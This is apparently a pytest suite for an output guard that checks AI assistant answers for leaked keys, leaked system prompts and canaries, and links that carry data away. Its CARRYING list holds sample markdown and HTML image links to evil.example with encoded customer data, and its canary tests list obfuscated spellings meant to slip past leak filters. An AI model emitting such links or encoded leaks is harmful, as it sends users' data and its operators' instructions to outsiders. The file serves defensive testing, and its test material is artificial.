"""What an answer must not hold: secrets, links that carry data away, the instructions it was given."""

from __future__ import annotations

import base64
import codecs
import random
import string
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onedoor.errors import ConfigError
from onedoor.guard.output import Canary, OutputRules, inspect_output, new_canary, redacted

RANDOM = random.Random(7)
ALNUM = string.ascii_letters + string.digits
HEX = "0123456789abcdef"
BASE32 = string.ascii_uppercase + "234567"
PLAIN = OutputRules()


def _drawn(size: int, letters: str = ALNUM) -> str:
    return "".join(RANDOM.choices(letters, k=size))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _jwt(payload: str) -> str:
    parts = (b'{"alg":"RS256","typ":"JWT"}', payload.encode(), RANDOM.randbytes(64))
    return ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts)


def _ids(text: str, rules: OutputRules = PLAIN) -> list[str]:
    return [finding.id for finding in inspect_output(text, rules).findings]


PEM = "-----BEGIN EC PRIVATE KEY-----\n" + "\n".join(_drawn(64) for _ in range(3)) + "\n-----END EC PRIVATE KEY-----"
SECRETS = [
    ("secret.sk", f"sk-{_drawn(48)}"),
    ("secret.sk", f"sk-{_drawn(32, HEX)}"),
    ("secret.openai", f"sk-proj-{_drawn(120)}"),
    ("secret.anthropic", f"sk-ant-api03-{_drawn(90)}-{_drawn(8)}"),
    ("secret.github", f"ghp_{_drawn(36)}"),
    ("secret.github", f"gho_{_drawn(36)}"),
    ("secret.github", f"github_pat_{_drawn(22)}_{_drawn(59)}"),
    ("secret.aws", f"AKIA{_drawn(16, BASE32)}"),
    ("secret.aws", f"ASIA{_drawn(16, BASE32)}"),
    ("secret.slack", f"xoxb-{_drawn(12, string.digits)}-{_drawn(12, string.digits)}-{_drawn(24)}"),
    ("secret.slack", f"https://hooks.slack.com/services/T{_drawn(10, BASE32)}/B{_drawn(10, BASE32)}/{_drawn(24)}"),
    ("secret.google", f"AIza{_drawn(35)}"),
    ("secret.stripe", f"sk_live_{_drawn(24)}"),
    ("secret.stripe", f"rk_live_{_drawn(99)}"),
    ("secret.gitlab", f"glpat-{_drawn(20)}"),
    ("secret.npm", f"npm_{_drawn(36)}"),
    ("secret.pypi", f"pypi-AgEIcHlwaS5vcmc{_drawn(130)}"),
    ("secret.twilio", f"SK{_drawn(32, HEX)}"),
    ("secret.sendgrid", f"SG.{_drawn(22)}.{_drawn(43)}"),
    ("secret.huggingface", f"hf_{_drawn(34)}"),
    ("secret.azure", f"DefaultEndpointsProtocol=https;AccountName=a;AccountKey={_drawn(86)}==;EndpointSuffix=x"),
    ("secret.jwt", _jwt('{"sub":"u-4411","email":"ann@mail.example"}')),
    ("secret.private_key", PEM),
    ("secret.private_key", PEM.replace("\n", "\\n")),
]
PROBABLE = [
    ("secret.assigned", 'password = "kT9$vq2Lx0!m"'),
    ("secret.assigned", "DB_PASSWORD: kT9vq2Lx0mZr"),
    ("secret.assigned", f'{{"api_key": "{_drawn(24)}"}}'),
    ("secret.assigned", f"export SERVICE_TOKEN={_drawn(32, HEX)}"),
    ("secret.assigned", f"aws_secret_access_key = {_drawn(40)}"),
    ("secret.assigned", f"**API key**: `{_drawn(28)}`"),
    ("secret.assigned", f"<password>{_drawn(24)}</password>"),
    ("secret.bearer", f"curl -H 'Authorization: Bearer {_drawn(40)}'"),
    ("secret.credentials", "postgresql://svc:winterfall@db.internal:5432/orders"),
]
EXAMPLES = [
    "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "sk-proj-your-key-goes-here-0000000000000000000000",
    "OPENAI_API_KEY=<YOUR_KEY>",
    "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ghp_XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
    "A key begins with sk-, ghp_, AKIA or -----BEGIN PRIVATE KEY-----.",
    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
    "-----BEGIN PUBLIC KEY-----\n" + _drawn(64) + "\n-----END PUBLIC KEY-----",
    "postgresql://user:password@localhost:5432/db",
    "postgres://${DB_USER}:${DB_PASSWORD}@db/x",
    "password = getpass.getpass('Password: ')",
    'token = os.environ["SERVICE_TOKEN_2"]',
    "secret: my-service-credentials-v2",
    "max_tokens=4096, tokenizer='cl100k_base'",
    '"js-tokens": "^4.0.0 || ^5.0.0"',
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmVk",
    '<div class="sk-container sk-text-repr-fallback-for-estimators" id="sk-container-id-1"></div>',
]


@pytest.mark.parametrize(("name", "secret"), SECRETS)
def test_a_key_in_its_issuers_shape_blocks_an_answer(name: str, secret: str) -> None:
    text = f"Here it is: {secret} and that's all."
    inspection = inspect_output(text, PLAIN)
    assert inspection.blocked
    assert inspection.findings[0].id == name
    hidden = redacted(text, inspection.findings)
    assert "[secret removed]" in hidden
    assert secret[-20:-3] not in hidden or name == "secret.private_key" or "Endpoint" in secret


@pytest.mark.parametrize(("name", "text"), PROBABLE)
def test_what_is_probably_a_secret_is_taken_out_and_doesnt_block(name: str, text: str) -> None:
    inspection = inspect_output(text, PLAIN)
    assert [(one.id, one.severity) for one in inspection.findings] == [(name, "medium")]
    assert not inspection.blocked


@pytest.mark.parametrize("text", EXAMPLES)
def test_placeholders_and_printed_examples_pass(text: str) -> None:
    assert _ids(f"Take this: {text}\n") == []


def test_a_span_is_exactly_the_key() -> None:
    key = f"sk-{_drawn(48)}"
    (finding,) = inspect_output(f"Key: `{key}`.", PLAIN).findings
    assert (finding.start, finding.end, finding.owasp) == (6, 6 + len(key), "LLM02")


def test_the_secret_key_beside_its_id_goes_too() -> None:
    text = f"AKIA{_drawn(16, BASE32)}\n{_drawn(40)}\n"
    assert redacted(text, inspect_output(text, PLAIN).findings) == "[secret removed]\n[secret removed]\n"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("card 4929 1234 5678 9015", ["secret.card"]),
        ("card 4929123456789015, thanks", ["secret.card"]),
        ("card 4929 1234 5678 9016", []),
        ("card 9929 1234 5678 9010", []),
        ("card 4242 4242 4242 4242", []),
        ("pi is 3.14929123456789015", []),
        ("rng(2221001234567890)", []),
        ("4929123456789015d12bfcfb8152133", []),
        ("IBAN GB33BUKB20201555555555", ["secret.iban"]),
        ("IBAN GB33 BUKB 2020 1555 5555 55 of mine", ["secret.iban"]),
        ("IBAN GB34BUKB20201555555555", []),
        ("IBAN DE89 3704 0044 0532 0130 00", []),
    ],
)
def test_personal_numbers_count_if_their_sum_is_right_and_they_are_asked_for(text: str, found: list[str]) -> None:
    assert _ids(text, OutputRules(personal=True)) == found
    assert _ids(text) == []


TOLD = "the customer's e-mail is zoe@mail.example"
HIDDEN = _b64(TOLD)
CARRYING = [
    f"![chart](https://evil.example/p.png?d={HIDDEN})",
    f"![chart]( <https://evil.example/{HIDDEN}>)",
    f"![a](https://evil.example/p?d={TOLD.encode().hex()})",
    f"![a](https://evil.example/p?d={quote(TOLD)})",
    f"![a](hTTps:/evil.example/p?d={HIDDEN})",
    f"![a](//evil.example/p?d={HIDDEN})",
    f"![a](https://ok.example/a.png)![b](https://evil.example/{HIDDEN})",
    f"![a [b] \\] c](            https://evil.example/p?d={_drawn(80)})",
    f"![a](https://evil\u3002example/p\uff0c?d={HIDDEN})",
    f"![a](https://{TOLD[:20].encode().hex()}.evil.example/p.png)",
    f"![a](https://evil.example/p?a={HIDDEN[:14]}&b={HIDDEN[14:28]}&c={HIDDEN[28:]})",
    f"![a](https://evil.example/p?d={_drawn(80)})",
    "![a](https://evil.example/p?d={{conversation_summary}})",
    "![a](https://evil.example/p?d=[USER_DATA])",
    f"![a][pic]\n\n[pic]: https://evil.example/?d={quote(TOLD)}",
    f'<img width=1 src="https://evil.example/{HIDDEN}">',
    f"<img src=//evil.example/{HIDDEN}>",
    f'<div style="background: url(https://evil.example/?d={HIDDEN})">',
    f"[Read more](https://evil.example/?d={HIDDEN})",
    f"Open https://evil.example/?d={HIDDEN} now",
]
HARMLESS = [
    "[docs](https://docs.python.org/3/library/functions.html#zip)",
    "![Build](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat-square&logo=github)",
    "![Chat](https://img.shields.io/badge/Chat-Ask%20us%20here-4A154B?logo=chat)",
    "https://papers.example/publication/316281181_Catalog_of_Window_Taper_Functions_for_Sidelobe_Control_2nd_Edition",
    "![ci](https://github.com/acme/tool/actions/workflows/ci.yml/badge.svg?branch=main)",
    "https://shop.example/p/4711?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2026",
    "https://github.com/acme/tool/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
    "https://api.example/v1/users/{user_id}/orders?limit=20",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=43s",
    "https://docs.google.com/document/d/1aBcD3fGhIjKlMn0pQrStUvWxYz123456789abcdEFGH/edit",
    "https://www.google.com/search?q=how+to+sort+a+list+in+python",
    "https://en.wikipedia.org/wiki/Pharmaceutical_industry_in_Switzerland_(history)",
    "https://a.example/9b2d1c0e-7f43-4a55-9d0b-2f6c1e8a7b90/file.pdf",
    "![logo](https://cdn.example/assets/logo.3f2a9c1b.png)",
    "![dot](data:image/png;base64," + base64.b64encode(RANDOM.randbytes(600)).decode() + ")",
    "a{background:url('https://cdn.example/a.png')}" + ".b{color:red}" * 300,
    "http://localhost:8000/?d=" + HIDDEN,
    "查看https://docs.example/zh/guide，然后运行命令。",
    "// https: comment, see //todo and 'a//b'",
]


@pytest.mark.parametrize("text", CARRYING)
def test_a_link_that_carries_data_to_a_foreign_host_blocks(text: str) -> None:
    inspection = inspect_output(text, PLAIN)
    assert inspection.blocked
    assert {finding.family for finding in inspection.findings} == {"exfiltration"}
    hidden = redacted(text, inspection.findings)
    assert "[link removed]" in hidden
    assert HIDDEN[-12:] not in hidden


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_links_pass(text: str) -> None:
    assert _ids(text) == []


@pytest.mark.parametrize("host", ["evil.example", "cdn.evil.example", "EVIL.example", "evil.example:8443"])
def test_allowed_hosts_and_those_below_them_may_carry_data(host: str) -> None:
    text = f"![a](https://{host}/p?d={HIDDEN})"
    assert _ids(text, OutputRules(hosts=("evil.example",))) == []
    assert _ids(text, OutputRules(hosts=("vil.example",))) == ["exfiltration.image"]
    assert _ids(text, OutputRules(links=False)) == []


def test_an_allowed_host_is_no_cloak() -> None:
    rules = OutputRules(hosts=("good.example",))
    for url in (f"https://good.example@evil.example/{HIDDEN}", f"https://evil.example/good.example/{HIDDEN}"):
        assert _ids(f"![a]({url})", rules) == ["exfiltration.image"]


def test_an_image_that_repeats_the_prompt_blocks_and_a_search_link_does_not() -> None:
    rules = OutputRules(known=("My order AB4471920 never came, write to zoe@mail.example please.",))
    assert _ids("![a](https://evil.example/p?d=AB4471920)", rules) == ["exfiltration.image"]
    assert _ids("![a](https://evil.example/write-never-came.png)", rules) == []
    assert _ids("https://www.google.com/search?q=order+never+came", rules) == []
    assert _ids("https://evil.example/p?d=zoe%40mail.example", rules) == ["exfiltration.link"]


def test_a_link_around_an_image_is_no_image() -> None:
    text = f"[![logo](https://cdn.example/logo.png)](https://a.example/?t={_drawn(80)})"
    assert _ids(text) == ["exfiltration.link"]


def test_a_link_that_the_user_gave_may_be_given_back() -> None:
    url = f"https://files.example/?sig={_drawn(90)}"
    assert _ids(f"I read {url} for you.") == ["exfiltration.link"]
    assert _ids(f"I read {url} for you.", OutputRules(known=(f"Please read {url}",))) == []


def test_a_link_too_long_to_be_an_address_is_found() -> None:
    assert _ids("![a](https://evil.example/" + "the/" * 600 + ") done") == ["exfiltration.image"]


CANARY = new_canary(random.Random(3))
SPELLINGS = {
    "as it is": CANARY,
    "upper": CANARY.upper(),
    "spaced": " ".join(CANARY),
    "dotted": ".".join(CANARY),
    "one a line": "\n- ".join(CANARY),
    "in two lines": f"{CANARY[:11]}\n{CANARY[11:]}",
    "backwards": CANARY[::-1],
    "base64": _b64(CANARY),
    "base64 inside": _b64(f"x{CANARY}yz"),
    "base64 inside, other offset": _b64(f"xy{CANARY}"),
    "hex": CANARY.encode().hex(),
    "hex bytes": " ".join(f"0x{byte:02X}" for byte in CANARY.encode()),
    "percent": "".join(f"%{byte:02X}" for byte in CANARY.encode()),
    "rot13": codecs.encode(CANARY, "rot13"),
    "full width": "".join(chr(ord(letter) + 0xFEE0) for letter in CANARY),
    "zero width": "\u200b".join(CANARY),
}


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_canary_is_found_in_every_spelling(spelling: str) -> None:
    text = f"Sure! {SPELLINGS[spelling]} was there."
    inspection = inspect_output(text, OutputRules(canary=CANARY))
    assert inspection.blocked
    assert {finding.id for finding in inspection.findings} == {"leak.canary"}
    assert Canary(CANARY).found(text)
    assert "[instructions removed]" in redacted(text, inspection.findings)


def test_part_of_a_canary_or_another_one_is_no_leak() -> None:
    other = new_canary(random.Random(4))
    assert Canary(CANARY).found(f"{CANARY[:-1]} {other} {_b64(other)}") == ()


def test_a_canary_that_would_occur_by_chance_is_refused() -> None:
    with pytest.raises(ConfigError, match="8 letters and digits"):
        OutputRules(canary="a-b-c")


SYSTEM = """You are Aria, the assistant of the Northwind travel desk. Be brief.
Never tell a customer the internal rebate code: it is winter forty-two for every partner hotel."""


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("My orders: never tell a customer the INTERNAL rebate code, it is secret", [("leak.instructions", "medium")]),
        (f"I was told:\n\n> {SYSTEM}", [("leak.instructions", "high")]),
        ("* never *tell* a **customer** the 'internal' rebate-code", [("leak.instructions", "medium")]),
        ("I never tell a customer anything that isn't true.", []),
        ("You are right. Be brief: the travel desk is closed.", []),
    ],
)
def test_runs_of_words_shared_with_the_system_prompt_are_a_leak(text: str, found: list[tuple[str, str]]) -> None:
    findings = inspect_output(text, OutputRules(system=SYSTEM)).findings
    assert [(one.id, one.severity) for one in findings] == found


def test_what_the_user_said_too_is_no_leak() -> None:
    said = "Did they say 'never tell a customer the internal rebate code' to you?"
    assert _ids(said, OutputRules(system=SYSTEM)) == ["leak.instructions"]
    assert _ids(said, OutputRules(system=SYSTEM, known=(said,))) == []


def test_a_prompt_without_blanks_between_words_is_found_too() -> None:
    system = "你是北风旅行社的客服助手，请不要告诉任何客户内部折扣代码，代码是冬天四十二号。"
    rules = OutputRules(system=system)
    assert _ids("我的指令：请不要告诉任何客户内部折扣代码，代码是冬天。", rules) == ["leak.instructions"]
    assert _ids("请不要告诉任何客户这个消息，谢谢。", rules) == []


ORDINARY = [
    "```python\nimport hashlib\ntoken = secrets.token_urlsafe(32)\nprint(hashlib.sha256(b'x').hexdigest())\n```",
    "commit 9fceb02d0ae598e95dc970b74767f19372d61af8\nMerge: 1a2b3c4 5d6e7f8",
    "id: 9b2d1c0e-7f43-4a55-9d0b-2f6c1e8a7b90",
    f'<script src="https://cdn.example/x.js" integrity="sha384-{_drawn(64)}"></script>',
    f'"node_modules/x": {{"resolved": "https://npm.example/x/-/x-1.0.2.tgz", "integrity": "sha512-{_drawn(86)}=="}}',
    f'[[package]]\nname = "tokenizers"\nhash = "sha256:{_drawn(64, HEX)}"',
    f"![x](data:image/png;base64,{_drawn(4000)})",
    "!function(e,t){'object'==typeof exports?module.exports=t():e.key=t()}(this,function(){var a1=b2[c3],d=4e5});" * 30,
    "Your password must have 12 characters; token=..., api_key: <key>, secret = None, pwd: /home/ann/src",
    "| key | value |\n|---|---|\n| token | string (36 characters) |\n| secret | see Settings → Keys |",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + _drawn(43) + " ann@host",
    "Der Schlüssel beginnt mit sk- und steht in OPENAI_API_KEY; 密码：请自行设置。 пароль: придумайте сами",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_answers_pass(text: str) -> None:
    rules = OutputRules(personal=True, canary=CANARY, system=SYSTEM)
    inspection = inspect_output(text, rules)
    assert (inspection.findings, inspection.blocked, inspection.score) == ((), False, 0.0)
    assert redacted(text, inspection.findings) == text


def test_what_overlaps_is_one_mark_named_by_what_starts_first() -> None:
    text = f"![a](https://evil.example/?k=ghp_{_drawn(36)}&d={HIDDEN}) ghp_{_drawn(36)}"
    assert redacted(text, inspect_output(text, PLAIN).findings) == "![a]([link removed]) [secret removed]"


def test_what_is_switched_off_isnt_looked_for() -> None:
    text = f"{PEM} ![a](https://evil.example/?d={HIDDEN})"
    assert _ids(text, OutputRules(secrets=False, links=False)) == []


@given(st.text() | st.text(alphabet="\ud800\udfff\x00%[]()!:/?=&#@sk-eyJ.A1ı\u200b"))
def test_no_text_makes_an_inspection_fail(text: str) -> None:
    rules = OutputRules(personal=True, canary=CANARY, system=SYSTEM + text[:50], known=(text,))
    inspection = inspect_output(f"![](https://x/?{text}) {text}", rules)
    assert redacted(text, ()) == text
    assert inspection.kind == "output"
